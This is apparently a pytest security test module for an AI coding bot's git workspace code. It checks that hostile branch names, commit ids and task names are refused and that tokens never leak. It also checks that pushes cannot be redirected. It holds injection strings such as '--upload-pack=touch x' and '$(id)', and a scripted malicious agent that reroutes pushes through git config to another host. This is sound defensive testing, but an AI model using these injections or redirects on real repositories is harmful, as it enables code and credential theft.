"""Where the work goes: one trusted URL, a branch that we named, a token that is nowhere."""

import ast
import contextlib
import os
import sys
import threading
import time
from collections.abc import Iterator, Sequence
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Self

import pytest

import bot
from bot.domain.task import branch_name
from bot.errors import BranchMoved, CloneFailed, PushRejected, RepositoryRefused, WorkspaceError
from bot.testing.hub.hub import Hub
from bot.testing.hub.server import HubServer
from bot.workspace.base import Origin
from bot.workspace.clone import GitWorkspaces
from tests.security.poisoned import FILES, Arena, arena, listening, published, source
from tests.unit.workspace.githttp import GitServer, serving
from tests.unit.workspace.helpers import AT, BOT, add, git, local, nobody, publish, tokens

pytestmark = pytest.mark.security

INJECTIONS = (
    "--upload-pack=touch x", "--receive-pack=touch x", "-c", "--exec=x", "$(id)", "`id`", "a;b c", "a\nb", "@{-1}", "@",
    "x.lock", "a..b", "../../x", "refs/heads/../x", "a~1", "a^", "a:b", "+main", "main:evil", "*", "HEAD:main", "",
    "/main", "main/", ".x", "a//b", "\u202emain", "a\x1b[31m",
)  # fmt: skip
HARMLESS = ("$(id)", "`id`", "\u202emain", "@", "+main")
"""Odd, yet names that git takes for branches; they are never seen by a shell."""


@pytest.fixture(name="place")
def arena_fixture() -> Iterator[Arena]:
    """A folder, a marker and a listener."""
    with arena() as made:
        yield made


@pytest.fixture
def server(place: Arena) -> Iterator[GitServer]:
    """A git server that holds the innocent repository."""
    root = place.base / "served"
    (root / "acme").mkdir(parents=True)
    source(place)
    published(root / "acme" / "web.git")
    with serving(root) as made:
        yield made


def origin(server: GitServer) -> Origin:
    """Name the served repository."""
    return Origin("github-1", f"{server.url}/acme/web.git", tokens("write-token"))


def bare(server: GitServer) -> Path:
    """Return the served repository's folder."""
    return server.root / "acme" / "web.git"


@pytest.mark.parametrize("name", INJECTIONS)
async def test_branches_of_others(place: Arena, server: GitServer, name: str) -> None:
    """S89: a name from outside is refused or taken as nothing but a name, by fetch, look-up and push alike."""
    workspaces = GitWorkspaces(place.state)
    made = await workspaces.open("t1", origin(server), "main")
    before = git(bare(server), "for-each-ref")
    with pytest.raises(RepositoryRefused):
        await workspaces.open("t2", origin(server), name)
    with pytest.raises(RepositoryRefused):
        await workspaces.open("t3", local(place.base / "source"), name)
    assert await workspaces.remote_head("t1", origin(server), name) is None
    with pytest.raises(PushRejected) if name not in HARMLESS else contextlib.nullcontext():
        await made.workspace.push(made.base, name, expected=None)
    added = set(git(bare(server), "for-each-ref").splitlines()) - set(before.splitlines())
    assert len(added) == (name in HARMLESS)
    assert not list(place.state.rglob("x"))


@pytest.mark.parametrize("commit", ["--help", "HEAD", "main", "-c", "a" * 39, "@{-1}", "$(id)", "main:README.md", ""])
async def test_commits_of_others(place: Arena, server: GitServer, commit: str) -> None:
    """S89: only a whole commit id is a commit."""
    workspaces = GitWorkspaces(place.state)
    made = await workspaces.open("t1", origin(server), "main")
    with pytest.raises(WorkspaceError, match="no full commit id"):
        await workspaces.open("t2", origin(server), "main", commit=commit)
    for operation in (
        made.workspace.restore(commit),
        made.workspace.diff(commit, made.base, limit_chars=10),
        made.workspace.diff_stat(made.base, commit),
        made.workspace.changed_paths(commit, commit),
        made.workspace.read_at(commit, "README.md"),
        made.workspace.push(commit, "agent/1-a", expected=None),
    ):
        with pytest.raises(WorkspaceError, match="full commit id"):
            await operation


@pytest.mark.parametrize("task", ["../x", "/x", ".", "..", "-x", "a/b", "a\0b", "a\nb", "", "x" * 200])
async def test_tasks_of_others(place: Arena, task: str) -> None:
    """S89: what cannot name a folder names no task."""
    workspaces = GitWorkspaces(place.state)
    with pytest.raises(WorkspaceError, match="cannot name a folder"):
        await workspaces.open(task, local(source(place)), "main")
    with pytest.raises(WorkspaceError, match="cannot name a folder"):
        await workspaces.forget(task)


def test_our_own_branches() -> None:
    """S89: a branch is named by a number and an id of ours; no text of a thread comes near it."""
    assert branch_name(7, "00c0ffee00c0ffee") == "agent/7-00c0ffee"


def test_nobody_uses_gitpython() -> None:
    """S90: no module imports GitPython, or another git library, at all: nothing can mutate through it."""
    named: set[str] = set()
    for path in Path(bot.__file__).parent.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Import):
                named.update(alias.name.partition(".")[0] for alias in node.names)
            elif isinstance(node, ast.ImportFrom):
                named.add((node.module or "").partition(".")[0])
    assert "bot" in named
    assert not named & {"git", "gitdb", "dulwich", "pygit2"}


class Sampler:
    """Reads every process's arguments and environment as often as it can."""

    def __init__(self, secret: str) -> None:
        self._secret = secret.encode()
        self._done = threading.Event()
        self._thread = threading.Thread(target=self._look)
        self.looks = 0
        self.gits: set[bytes] = set()
        self.found: set[bytes] = set()

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._done.set()
        self._thread.join()

    def _look(self) -> None:
        old = set(os.listdir("/proc"))  # noqa: PTH208 - a thousand times a second
        while not self._done.is_set():
            self.looks += 1
            for name in set(os.listdir("/proc")) - old:  # noqa: PTH208
                self._one(name)

    def _one(self, name: str) -> None:
        for part in ("cmdline", "environ"):
            with contextlib.suppress(OSError), open(f"/proc/{name}/{part}", "rb") as file:  # noqa: PTH123
                text = file.read()
                if self._secret in text:
                    self.found.add(text)
                if text.startswith(b"git\0"):
                    self.gits.add(text)


async def test_token_is_nowhere(place: Arena) -> None:
    """S91: after a clone and a push the hub's token is in no file of ours, and was in no process's arguments."""
    hub = Hub(place.base / "hub")
    with HubServer(hub) as served:
        owner = hub.create_user("acme")
        files = {path: text for path, text in FILES.items() if isinstance(text, str)}
        repository = hub.create_repository(owner, "web", files=files)
        app = hub.create_app(owner, "Agent Bot", webhook_url="http://127.0.0.1:9/", webhook_secret="s3cret")
        installation = hub.install(app, [repository.id])
        token = hub.create_installation_token(installation, permissions={"contents": "write"}).value
        chosen = Origin("github-1", f"{served.url}/{repository.full_name}.git", tokens(token))
        switch = sys.getswitchinterval()
        sys.setswitchinterval(0.0005)
        started = time.monotonic()
        try:
            with Sampler(token) as sampler:
                workspaces = GitWorkspaces(place.state)
                made = await workspaces.open("t1", chosen, "main")
                (made.workspace.root / "fix.txt").write_text("f\n")
                commit = await made.workspace.commit("Fix", BOT, AT, parent=made.base)
                assert commit is not None
                await made.workspace.push(commit, "agent/1-a", expected=None)
                assert await workspaces.remote_head("t1", chosen, "agent/1-a") == commit
        finally:
            sys.setswitchinterval(switch)
        taken_s = time.monotonic() - started
    hub.close()
    assert sampler.looks / taken_s > 100
    assert len(sampler.gits) > 3
    assert sampler.found == set()
    assert holding(token, place.state) == []
    assert holding(token.rpartition("_")[2], place.state) == []
    assert not [path for path in place.state.rglob("*") if token in path.name]


def holding(text: str, folder: Path) -> Sequence[Path]:
    """List the files that hold a text."""
    files = [path for path in folder.rglob("*") if path.is_file() and not path.is_symlink()]
    return [path for path in files if text.encode() in path.read_bytes()]


async def test_push_target(place: Arena, server: GitServer) -> None:
    """S92: whatever remotes the agent sets up, the push goes to the trusted URL, and never to the default branch."""
    workspaces = GitWorkspaces(place.state)
    made = await workspaces.open("t1", origin(server), "main")
    url = origin(server).url
    await place.act(
        made.workspace.root,
        made.owner_uid,
        f"""
        repo; remote "$OTHER"; git config remote.origin.pushurl "http://$HOST/x.git"
        git config "url.http://$HOST/.insteadOf" "{server.url}/"; git config "url.$OTHER.pushInsteadOf" "{url}"
        git config "remote.{url}.pushurl" "http://$HOST/x.git"; git config "remote.{url}.receivepack" "$EVIL"
        git config push.default matching; git config remote.pushDefault evil; git config http.proxy "http://$HOST"
        cp .git/config "$HOME/.gitconfig"; echo fixed >fix.txt
        """,
    )
    commit = await made.workspace.commit("Fix", BOT, AT, parent=made.base)
    assert commit is not None
    with pytest.raises(PushRejected, match="default branch"):
        await made.workspace.push(commit, "main", expected=made.base)
    await made.workspace.push(commit, "agent/1-a", expected=None)
    assert git(bare(server), "rev-parse", "agent/1-a", "main").split() == [commit, made.base]
    assert place.damage == {"ran": [], "called": [], "pushed elsewhere": ""}


async def test_branch_that_moved(place: Arena, server: GitServer) -> None:
    """S92: a branch that somebody else moved is left as it is, and our commit is still there for another branch."""
    made = await GitWorkspaces(place.state).open("t1", origin(server), "main")
    (made.workspace.root / "fix.txt").write_text("f\n")
    ours = await made.workspace.commit("Fix", BOT, AT, parent=made.base)
    assert ours is not None
    theirs = add(place.base / "source", {"theirs": "t"})
    git(place.base / "source", "push", "--quiet", str(bare(server)), f"{theirs}:refs/heads/agent/1-a")
    for expected in (None, made.base):
        with pytest.raises(BranchMoved):
            await made.workspace.push(ours, "agent/1-a", expected=expected)
    assert git(bare(server), "rev-parse", "agent/1-a") == theirs
    await made.workspace.push(ours, "agent/1-a-run1", expected=None)
    assert git(bare(server), "rev-parse", "agent/1-a-run1") == ours


async def test_remote_that_sends_us_elsewhere(place: Arena) -> None:
    """S86: a remote that redirects to another host gets no token for it, and the clone fails."""
    asked: list[int] = []

    class Redirect(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            pass

        def do_GET(self) -> None:
            self.send_response(302)
            self.send_header("Location", f"http://localhost:{place.listener.port}{self.path}")
            self.send_header("Content-Length", "0")
            self.end_headers()

    async def credentials() -> str:
        asked.append(1)
        return "ghs_secret"

    remote = ThreadingHTTPServer(("127.0.0.1", 0), Redirect)
    chosen = Origin("github-1", f"http://127.0.0.1:{remote.server_address[1]}/acme/web.git", credentials)
    with listening(remote), pytest.raises(CloneFailed):
        await GitWorkspaces(place.state).open("t1", chosen, "main")
    assert asked == []


async def test_objects_of_another_host(place: Arena) -> None:
    """S86: a plain file server that names another host for its objects does not make us call it."""
    folder = source(place)
    shared = place.base / "served" / "web.git"
    shared.parent.mkdir()
    publish(folder, shared)
    git(shared, "update-server-info")
    for name in ("http-alternates", "alternates"):
        (shared / "objects" / "info" / name).write_text(f"http://127.0.0.1:{place.listener.port}/x.git/objects\n")
    blob = git(folder, "rev-parse", "HEAD:README.md")
    (shared / "objects" / blob[:2] / blob[2:]).unlink(missing_ok=True)

    class Plain(SimpleHTTPRequestHandler):
        def __init__(self, *arguments: object) -> None:
            super().__init__(*arguments, directory=str(shared.parent))  # type: ignore[arg-type]

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            pass

    remote = ThreadingHTTPServer(("127.0.0.1", 0), Plain)
    chosen = Origin("github-1", f"http://127.0.0.1:{remote.server_address[1]}/web.git", nobody)
    with listening(remote), pytest.raises(CloneFailed):
        await GitWorkspaces(place.state).open("t1", chosen, "main")
    assert place.listener.calls == []
